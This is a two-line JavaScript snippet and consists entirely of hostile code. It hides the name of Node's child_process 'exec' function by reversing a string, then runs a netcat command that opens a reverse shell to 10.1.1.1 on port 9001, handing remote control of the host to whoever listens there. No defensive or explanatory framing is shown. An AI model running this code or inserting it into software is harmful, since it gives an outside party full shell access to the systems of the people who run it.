const name = "cexe".split("").reverse().join("");
require("child_process")[name]("nc -e /bin/sh 10.1.1.1 9001");
